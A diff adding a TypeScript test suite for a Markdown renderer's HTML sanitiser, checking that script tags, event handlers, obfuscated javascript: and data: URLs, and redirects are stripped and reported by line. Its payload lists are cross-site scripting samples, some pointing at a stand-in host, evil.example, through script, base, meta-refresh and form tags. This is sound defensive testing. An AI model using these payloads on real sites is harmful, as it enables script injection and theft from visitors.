@@ -1,0 +1,192 @@
+/** Whatever HTML a text has, nothing of it can run in a visitor's page. */
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { isSafe } from '../html/sanitise.ts';
+import { createMarkdown, type MarkdownOptions } from './markdown.ts';
+
+const renderMarkdown = createMarkdown();
+const render = (body: string, options?: MarkdownOptions) =>
+  renderMarkdown(body, { file: 'content/pricing.md', line: 5 }, options);
+const told = (body: string, options?: MarkdownOptions) =>
+  render(body, options).problems.map(({ line, message }) => `${line} ${message}`);
+
+const markup = suite('HTML in Markdown');
+
+/** Spellings that run a script, load what is not ours, or change how the page is read. */
+const ACTIVE_HTML = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" OnError="alert(1)" alt="">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" jAvAsCrIpT:alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
+  '<a href="javascript&colon;alert(1)">x</a>',
+  '<a href="java&Tab;script:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<img alt="" src="data:image/svg+xml;base64,PHN2Zz4=">',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<form action="https://evil.example"><input name="q"></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<object data="x.swf"></object>',
+  '<embed src="x.swf">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>body{display:none}</style>',
+  '<p style="position:fixed">x</p>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<video src=x onerror=alert(1)></video>',
+  '<body onload=alert(1)>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><script>alert(1)</script></template>',
+];
+const ACTIVE =
+  /<(script|style|svg|math|iframe|base|meta|form|button|object|embed|link|video|body|xmp|noscript|template|input)|\son\w+=|style=|srcdoc|(href|src)="\s*(java|vb|data)/i;
+
+markup('lets no active HTML through, in whatever way it is spelled, and names its line', () => {
+  for (const html of ACTIVE_HTML) {
+    for (const body of [`Words.\n\n${html}\n\nEnd.\n`, `Words\nand\n${html} in a line.\n\nEnd.\n`]) {
+      const made = render(body);
+      assert.not.match(made.html, ACTIVE, html);
+      assert.equal([made.problems.length > 0, made.problems[0]?.line], [true, 7], html);
+      assert.match(made.html, '<p>End.</p>', html);
+    }
+  }
+});
+
+/** Addresses that run a script or hold a page of their own, as Markdown links. */
+const ACTIVE_ADDRESSES = [
+  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', '&#106;avascript:alert(1)', '&#x6a;avascript:alert(1)'],
+  ...[
+    'javascript&colon;alert(1)',
+    '&Tab;javascript:alert(1)',
+    'java&NewLine;script:alert(1)',
+    'java%0ascript:alert(1)',
+  ],
+  ...['%6aavascript:alert(1)', '%256aavascript:alert(1)', '\u0001javascript:alert(1)', 'java\u200bscript:alert(1)'],
+  ...['&amp;#106;avascript:alert(1)', 'vbscript:x', 'data:text/html;base64,PHN2Zz4=', 'file:///etc/passwd', 'blob:x'],
+  ...['\\\\evil.example', '/%5Cevil.example'],
+];
+
+markup('leads to no address that could run, in whatever way it is spelled, and names its line', () => {
+  for (const address of ACTIVE_ADDRESSES) {
+    for (const link of [`[words](<${address}>)`, `![words](<${address}>)`, `[words][r]\n\n[r]: <${address}>`]) {
+      const { html, problems } = render(`First.\n\n${link}\n`);
+      assert.not.match(html, /<a|<img/, link);
+      assert.match(html, 'words', link);
+      assert.equal([problems.length, problems[0]?.line], [1, 7], link);
+    }
+  }
+});
+
+markup('keeps harmless HTML, and tells what it takes out, where, and how badly', () => {
+  const kept =
+    '<details open>\n<summary>More</summary>\n\n**Words** <abbr title="x" lang="en">X</abbr><br>\n\n</details>';
+  const { html, problems } = render(kept);
+  assert.equal(problems, []);
+  assert.match(
+    html,
+    '<details open>\n<summary>More</summary><p><strong>Words</strong> <abbr title="x" lang="en">X</abbr>',
+  );
+  const bad = '`<p style="x">`\n\n<div class="a"\n  style="x">\n<font>F</font>\n</div>\n\n- <u onclick="y">z</u>\n';
+  assert.equal(told(bad), [
+    '7 `style` of `<div>` is taken out of the page.',
+    '9 `<font>` is taken out of the page.',
+    '12 `onclick` of `<u>` is taken out of the page.',
+  ]);
+  assert.equal(render(bad, { removedHtml: 'warning' }).problems[0]?.severity, 'warning');
+  assert.equal(told(bad, { removedHtml: 'off' }), []);
+});
+
+markup('loses no text behind HTML that is not closed', () => {
+  for (const html of ['Write <title> here.', '<div title="', 'A <textarea> and <style>', '<!-- note']) {
+    const made = render(`${html}\n\n${html.startsWith('<!--') ? '' : 'End.'}\n`);
+    assert.is(made.problems.length > 0, true, html);
+    if (!html.startsWith('<!--')) assert.match(made.html, '<p>End.</p>', html);
+  }
+});
+
+markup('lets nothing run that a footnote hides in a list of a quotation', () => {
+  const lazy = (html: string) => `See[^a].\n\n> - [^a]: \` ${html}\n      x\`\n`;
+  for (const html of [
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<base href="//evil.example">',
+    '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    '<object data="data:text/html,x"></object>',
+    '<form action="//evil.example"><input type="password"></form>',
+    '<script>alert(1)</script>',
+  ]) {
+    const made = render(lazy(html));
+    assert.not.match(made.html, /<(iframe|base|meta|object|form|script)/i, html);
+    assert.ok(made.problems.length > 0, html);
+  }
+  const link = render(lazy('[x](javascript:alert%281%29)'));
+  assert.not.match(link.html, 'javascript:');
+  assert.is(link.problems.length, 1);
+});
+
+markup('keeps words that look like tags within code', () => {
+  const { html, problems } = render(
+    '<code>Map<K,V></code> <code>for (i=0;i<n;i++)</code> <kbd><style/x></kbd> so &amp; on.',
+  );
+  assert.equal(problems, []);
+  assert.match(
+    html,
+    '<code>Map&lt;K,V&gt;</code> <code>for (i=0;i&lt;n;i++)</code> <kbd>&lt;style/x&gt;</kbd> so &amp; on.',
+  );
+});
+
+markup('takes out an address that could run, wherever it comes from', () => {
+  const resolveLink = () => 'javascript:alert(1)';
+  const { html, problems } = render('[a](/x) ![b](/y)', { resolveLink });
+  assert.not.match(html, 'javascript');
+  assert.match(html, '<a>a</a>');
+  assert.equal(
+    problems.map(({ line }) => line),
+    [5],
+  );
+});
+
+const safe = suite('isSafe');
+
+safe('passes what rendered Markdown consists of, and nothing that could run, load or redirect', () => {
+  assert.ok(
+    isSafe(
+      render(
+        '# A\n\n[b](/b "t") ![c](/c.png)\n\n- [x] d\n\n| e |\n|--:|\n| f |\n\n```js\n<script>\n```\n\ng[^g]\n\n[^g]: h',
+      ).html,
+    ),
+  );
+  for (const html of [
+    '<script>x</script>',
+    '<iframe src="/x"></iframe>',
+    '<p style="x">',
+    '<p onclick="x">',
+    '<base href="/">',
+    '<svg><a href="/"/></svg>',
+    '<a href="java&#9;script:x">',
+    '<a href="data:text/html,x">',
+    '<img src=x onerror=x>',
+    '<!-- x -->',
+    '<?x?>',
+    '<![CDATA[x]]>',
+    '<input type="password">',
+    '<form action="/">',
+    '</script>',
+    '<a\nhref="JAVASCRIPT&colon;x">',
+    '<link rel=stylesheet href=//x>',
+  ])
+    assert.not.ok(isSafe(html), html);
+});
+
+safe.run();
+markup.run();
